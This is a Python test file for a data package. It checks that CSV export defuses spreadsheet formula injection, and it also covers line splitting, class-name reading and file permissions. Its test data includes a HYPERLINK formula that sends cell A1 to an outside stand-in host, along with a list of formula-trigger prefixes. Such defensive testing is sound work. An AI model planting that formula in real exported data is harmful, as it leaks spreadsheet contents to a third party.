"""Text and CSV files: lines, cells that spreadsheets compute, files of one's own."""

from __future__ import annotations

import csv
import io
import itertools
import stat

import polars as pl
import pytest

from candidly.compare.report import gap as report_gap
from candidly.compare.sweep import gap
from candidly.data.ingest import read_frame
from candidly.data.ingest.labels import read_classes
from candidly.ground.files import inert, lines_of, raw, replacing, write_table
from candidly.stats import summarise

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("http://example.org?"&A1;"look")'
TEXTS = [FORMULA, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''-x", "'", "'tis", "-"]
TEXTS += ["plain", "a=b", "", " =1", 'a "quoted", one', "two\nlines", "＝1"]


def test_no_text_starts_as_a_formula_and_all_come_back(tmp_path):
    numbers = [-1.5 * k for k in range(len(TEXTS))]
    table = pl.DataFrame(
        {
            "=name": TEXTS,
            "score": numbers,
            "index": [-k for k in range(len(TEXTS))],
            "lists": [[text, "-2"] for text in TEXTS],
            "kind": pl.Series(TEXTS, dtype=pl.Categorical),
            "nothing": [None] * len(TEXTS),
        }
    )
    write_table(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        head, *rows = list(csv.reader(file))
    assert head == ["'=name", "score", "index", "lists", "kind", "nothing"]
    for row in rows:
        for place in (0, 3, 4):
            assert not row[place].startswith(DANGEROUS), row
        assert float(row[1]) <= 0
        assert "'" not in row[1] + row[2]
    back = read_frame(tmp_path / "t.csv").frame
    assert back["=name"].to_list() == back["kind"].to_list() == TEXTS
    assert back["score"].cast(float).to_list() == numbers
    assert back["index"].cast(int).to_list() == table["index"].to_list()
    assert back["lists"].to_list() == [f"{text}|-2" for text in TEXTS]


def test_inert_and_raw_are_inverse():
    alphabet = "'=-a"
    for size in range(6):
        for letters in itertools.product(alphabet, repeat=size):
            text = "".join(letters)
            assert raw(inert(text)) == text
            assert not inert(text).startswith(("=", "-"))
    assert len({inert("".join(t)) for t in itertools.product(alphabet, repeat=5)}) == 4**5


def test_other_files_hold_texts_as_they_are(tmp_path):
    table = pl.DataFrame({"name": TEXTS})
    write_table(table, tmp_path / "t.parquet")
    assert pl.read_parquet(tmp_path / "t.parquet").equals(table)
    write_table(table, tmp_path / "t.json")
    assert FORMULA.replace('"', '\\"') in (tmp_path / "t.json").read_text()


def test_the_table_of_gaps_is_inert_too():
    low = summarise([-0.25, -0.75])
    found = gap.Gap("=1+1", "@a", "-c", 1, 1, True, low, low, low, low, low, 2, None)
    row = list(csv.reader(io.StringIO(report_gap.gap_table([found]).csv())))[1]
    assert row[:3] == ["'=1+1", "'@a", "'-c"]
    assert float(row[6]) == -50


def test_lines_end_at_line_feeds_alone(tmp_path):
    odd = ["a\u2028b", "c\u2029\x85", "d\x0b\x0c\x1c\x1d\x1e", "\re", ""]
    place = tmp_path / "t.txt"
    for end in ("\n", "\r\n"):
        place.write_bytes(end.join([*odd, "last"]).encode())
        assert lines_of(place) == [*odd, "last"]
    place.write_bytes(b"\xef\xbb\xbfone\n\n")
    assert lines_of(place) == ["one", ""]
    place.write_bytes(b"")
    assert lines_of(place) == []
    place.write_bytes(b"\xff\xfe")
    with pytest.raises(ValueError, match="is no text in UTF-8"):
        lines_of(place)


def test_names_of_classes_keep_odd_characters(tmp_path):
    (tmp_path / "c.txt").write_bytes("\ufeffcat\u2028a\ndog\x85\x0bb\r\nowl\n".encode())
    assert read_classes(str(tmp_path / "c.txt")) == ["cat\u2028a", "dog\x85\x0bb", "owl"]


def test_a_private_file_is_its_owners_alone(tmp_path):
    with replacing(tmp_path / "a", private=True) as file:
        file.write(b"x")
        beside = next(tmp_path.iterdir())
        assert stat.S_IMODE(beside.stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "a").stat().st_mode) == 0o600
